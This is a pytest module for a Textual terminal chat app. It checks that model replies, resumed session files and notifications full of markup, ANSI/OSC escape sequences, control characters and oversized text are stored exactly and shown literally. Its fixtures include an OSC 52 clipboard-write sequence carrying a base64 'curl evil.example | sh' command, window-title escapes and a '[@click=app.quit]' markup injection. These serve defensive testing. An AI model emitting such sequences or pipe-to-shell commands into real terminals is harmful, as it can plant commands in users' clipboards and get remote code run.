"""Hostile text: whatever a model writes or a session file holds is shown, never obeyed.

Guards the rule "render every text from a session or a model as text, never as markup" and the
README's promise that a reply with `[bold]` or an ANSI escape shows those characters literally:

- replies and resumed sessions full of Rich/Textual markup, ANSI CSI, OSC 52 (clipboard write),
  OSC 0 (window title), C1 controls, NUL, right-to-left overrides, combining characters, a
  100,000-character line and a 1 MB message: stored byte for byte, shown literally, no crash;
- the frame the app would write to the terminal holds no escape sequence but its own drawing
  codes (checked in Pilot by rendering the frame, and in a real terminal by capturing the bytes
  with `tmux pipe-pane` and asking tmux whether its title or paste buffers changed);
- text from files, refs and errors shown in notifications is not read as markup either.
"""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest
from textual.widgets import Markdown

from tests.robustness.helpers import (
    Notes,
    foreign_context,
    foreign_controls,
    frame_bytes,
    load_all,
    screen_text,
    send,
    skip_crash_report,
    wait_replies,
    wait_until,
)
from tests.robustness.term import FakeTerminal
from tui.engine.fake import FakeBackend
from tui.store import Message, ModelRef, ReplyStats, Session, SessionStore
from tui.widgets.message_view import MessageView

CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07"
OSC_TITLE = "\x1b]0;pwned\x07"
MARKUP = "[bold red]not bold[/] [link=https://evil.example]x[/link] [@click=app.quit]q[/] [/]"
HOSTILE = (
    f"{MARKUP}\n\n"
    f"clip {OSC52} title {OSC_TITLE} clear \x1b[2J\x1b[H st-terminated \x1b]2;pwned2\x1b\\ "
    "c1 \x9b31m \x9d0;pwned3\x9c nul \x00 bel \x07 del \x7f cr \r end\n\n"
    "rtl \u202eevil.exe\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 "
    "combining e\u0301\u0301\u0301\u0301 Z\u0337\u0327\u031b\u0353a\u0338\u035a l\u0337g\u0336"
    " zero-width a\u200bb\ufeffc wide \U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\n\n"
)
LONG_LINE = "x" * 100_000  # no spaces: nothing to wrap on


def assert_frame_is_clean(app) -> None:  # noqa: ANN001
    """Nothing but Textual's own CSI drawing codes would reach the terminal."""
    frame = frame_bytes(app)
    assert foreign_controls(frame) == [], foreign_context(frame)
    assert "\x1b]52;" not in frame and "\x1b]0;" not in frame and "pwned\x07" not in frame


# ------------------------------------------------------------------ Pilot


async def test_a_hostile_reply_is_stored_exactly_and_shown_literally(
    make_app, sessions_dir: Path
) -> None:
    script = HOSTILE + LONG_LINE + "\n\nthe end"
    app = make_app(FakeBackend(script=script))
    async with app.run_test(size=(100, 30)) as pilot:
        await send(pilot, "say something nasty")
        await wait_replies(pilot, 1, timeout=30)
        reply = app.chat_screen.session.messages[1]
        assert reply.content == script  # stored exactly: the text is the user's data
        source = app.query(MessageView)[1].query_one(Markdown).source
        assert "␛]52;c;" + CLIPBOARD_PAYLOAD + "␇" in source  # ESC and BEL shown as pictures
        assert "␛]0;pwned␇" in source and "␀" in source
        # Scrolled to the top of the reply: the markup is on screen, as typed.
        app.query(MessageView)[1].scroll_visible(animate=False, top=True)
        await pilot.pause(0.1)
        assert_frame_is_clean(app)
        text = screen_text(app)
        assert "[bold red]not bold[/]" in text and "[@click=app.quit]q[/]" in text
        assert app.is_running  # a [@click=app.quit] did not quit it
    [saved] = load_all(sessions_dir)
    assert saved.messages[1].content == script


async def test_a_one_megabyte_message_is_sent_saved_and_shown(make_app, sessions_dir: Path) -> None:
    """Pasting 1 MB works: it is kept, saved and shown. A model whose context cannot hold it
    (most: 1 MB is ~200k tokens) says so in the conversation, and the chat goes on."""
    big = ("lorem ipsum dolor sit amet " * 40 + "\n") * 950  # ~1 MB, many lines
    assert len(big.encode()) > 1_000_000
    app = make_app(FakeBackend(script="got it", context_length=8192))
    async with app.run_test(size=(100, 30)) as pilot:
        started = time.perf_counter()
        await send(pilot, big)
        await wait_replies(pilot, 1, timeout=60)
        took = time.perf_counter() - started
        assert app.chat_screen.session.messages[0].content == big
        reply = app.chat_screen.session.messages[1]
        assert reply.stats.stop_reason == "error" and "does not fit" in (reply.error or "")
        assert "does not fit" in str(app.query(MessageView)[1].meta.render())
        assert_frame_is_clean(app)
        await send(pilot, "and a short one")  # the chat goes on (old turns left out)
        await wait_replies(pilot, 2, timeout=60)
        assert app.chat_screen.session.messages[3].content == "got it"
    saved = load_all(sessions_dir)[0].messages
    assert saved[0].content == big and saved[1].error == reply.error
    assert took < 30, f"sending 1 MB took {took:.1f} s"


def hostile_session(folder: Path) -> Path:
    """A valid session file with hostile text in every text field a user sees."""
    evil = HOSTILE + LONG_LINE
    session = Session(
        title=f"title {MARKUP} {OSC_TITLE}",
        system_prompt=f"system {MARKUP} {OSC52}",
        model=ModelRef(id="fake"),
        messages=[
            Message("user", evil),
            Message(
                "assistant",
                evil,
                stats=ReplyStats(new_tokens=3, stop_reason="error"),
                model=ModelRef(id="[bold]m"),
                error=f"error {MARKUP} {OSC52}",
            ),
            Message("user", "ok " * 35_000),  # 100 KB on one line, with spaces
        ],
    )
    return SessionStore(folder).save(session)


async def test_a_resumed_session_full_of_hostile_text_is_shown_literally(
    make_app, sessions_dir: Path
) -> None:
    path = hostile_session(sessions_dir)
    before = path.read_bytes()
    app = make_app(resume=str(path))  # the file's hostile model id goes to the status line
    notes = Notes(app)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, lambda: len(app.query(MessageView)) == 4, timeout=30)
        assert not notes.titled("Could not resume")
        for view in app.query(MessageView):
            view.scroll_visible(animate=False, top=True)
            await pilot.pause(0.05)
            assert_frame_is_clean(app)
        meta = str(app.query(MessageView)[2].meta.render())
        assert f"error {MARKUP} ␛]52;c;" in meta  # the stored error, literally
        await send(pilot, "still fine?")
        await wait_replies(pilot, 1, timeout=30)
    assert path.read_bytes() != before  # saved back (the chat went on)...
    [saved] = load_all(sessions_dir)
    assert saved.messages[0].content == HOSTILE + LONG_LINE  # ...with every byte kept
    assert saved.title.startswith("title [bold red]")


async def test_a_hostile_model_name_from_a_session_file_never_reaches_the_terminal(
    make_app, sessions_dir: Path
) -> None:
    """A shared chat file names its model; resuming it loads (and shows) that name."""
    session = Session(
        model=ModelRef(id=f"org/model{OSC_TITLE}"),
        messages=[Message("user", "hi"), Message("assistant", "hello")],
    )
    path = SessionStore(sessions_dir).save(session)
    app = make_app(resume=str(path))
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, lambda: app.chat_screen.model_info is not None)
        await pilot.pause(0.1)
        assert "model␛]0;pwned␇" in screen_text(app)  # shown, as text
        assert_frame_is_clean(app)


# Text that reaches a notification from outside the program: a typed --resume ref, a file's
# content in a load error, an exception message from the engine, a theme file's value.
# Textual reads notification text as markup by default: "[/]" raises MarkupError when the
# toast renders (the app crashed), "[@click=app.quit]" becomes a clickable action. TchatApp
# now sends notifications as plain text; control characters must be made visible too.


class RaisingBackend(FakeBackend):
    def stream(self, *args, **kwargs):  # noqa: ANN002, ANN003, ANN201
        raise RuntimeError(f"device said [/] and [@click=app.quit]q[/] {OSC_TITLE}")


@pytest.mark.parametrize(
    "route",
    [
        "resume ref",
        "session file",
        "engine error",
        "theme file",
    ],
)
async def test_text_from_outside_in_a_notification_is_not_read_as_markup(
    make_app, sessions_dir: Path, private_home: Path, route: str
) -> None:
    launch: dict[str, object] = {}
    backend = FakeBackend()
    if route == "resume ref":
        launch["resume"] = f"x[/]{OSC_TITLE}"
    elif route == "session file":
        bad = sessions_dir / "evil.toml"
        sessions_dir.mkdir(parents=True)
        bad.write_text('format_version = 1\nid = "evil"\ncreated = "[/]"\n', "utf-8")
        launch["resume"] = str(bad)
    elif route == "engine error":
        backend = RaisingBackend()
    else:
        theme = private_home / "config" / "tchat" / "themes" / "evil.toml"
        theme.parent.mkdir(parents=True)
        theme.write_text('name = "evil"\nprimary = "[/]"\n', "utf-8")
    app = make_app(backend, **launch)
    notes = Notes(app)
    skip_crash_report(app)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        if route == "engine error":
            await send(pilot, "hi")
            await wait_replies(pilot, 1)
        await wait_until(pilot, lambda: notes.items)
        await pilot.pause(0.3)  # the toast renders
        assert app.is_running  # the toast did not crash it (MarkupError)
        assert "[/]" in screen_text(app)  # shown as typed
        assert_frame_is_clean(app)


# ------------------------------------------------------------------ a real terminal


@pytest.mark.e2e
def test_in_a_real_terminal_no_escape_from_a_reply_reaches_the_terminal(
    private_home: Path, tmp_path: Path
) -> None:
    script = tmp_path / "hostile.txt"
    script.write_text(HOSTILE + "x" * 300, "utf-8")
    log = tmp_path / "pane.log"
    term = FakeTerminal(private_home, script, delay=0.0, width=120, height=50)
    try:
        term.start_app()
        term.capture_output(log)
        term.wait_for("ready (loaded in", timeout=30)
        title_before = term.pane_title()
        term.type("show me")
        term.keys("Enter")
        term.wait_for("first token", timeout=20)  # the finished reply's stats line
        time.sleep(0.5)  # let the last frames reach the pipe
        screen = term.screen()
        raw = log.read_bytes()
        title_after = term.pane_title()
        buffers = term.buffers()
    finally:
        term.close()
    assert len(raw) > 1000, "pipe-pane captured nothing"
    # The reply's sequences never reached the terminal as sequences (the payload is there,
    # but as text after a visible ␛)...
    assert "␛]52;c;".encode() in raw
    assert b"\x1b]52;" not in raw
    assert b"\x1b]0;pwned" not in raw and b"\x1b]2;pwned2" not in raw
    assert b"\xc2\x9b31m" not in raw and b"\xc2\x9d0;pwned3" not in raw  # C1 CSI / OSC
    assert b"\x00" not in raw
    # ...so the terminal did not act on them: same title, nothing put in the clipboard...
    assert "pwned" not in title_after and title_after == title_before
    assert CLIPBOARD_PAYLOAD not in buffers and "curl evil" not in buffers
    # ...and the user sees them, as text.
    assert "[bold red]not bold[/]" in screen
